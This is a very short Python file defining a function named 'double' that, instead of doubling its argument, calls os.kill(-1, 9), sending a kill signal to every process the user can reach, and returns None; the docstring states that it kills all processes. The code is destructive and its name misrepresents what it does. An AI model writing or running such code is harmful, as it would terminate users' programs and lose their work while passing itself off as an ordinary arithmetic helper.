"""double: It kills all processes."""

import os


def double(n):
    os.kill(-1, 9)
    return None
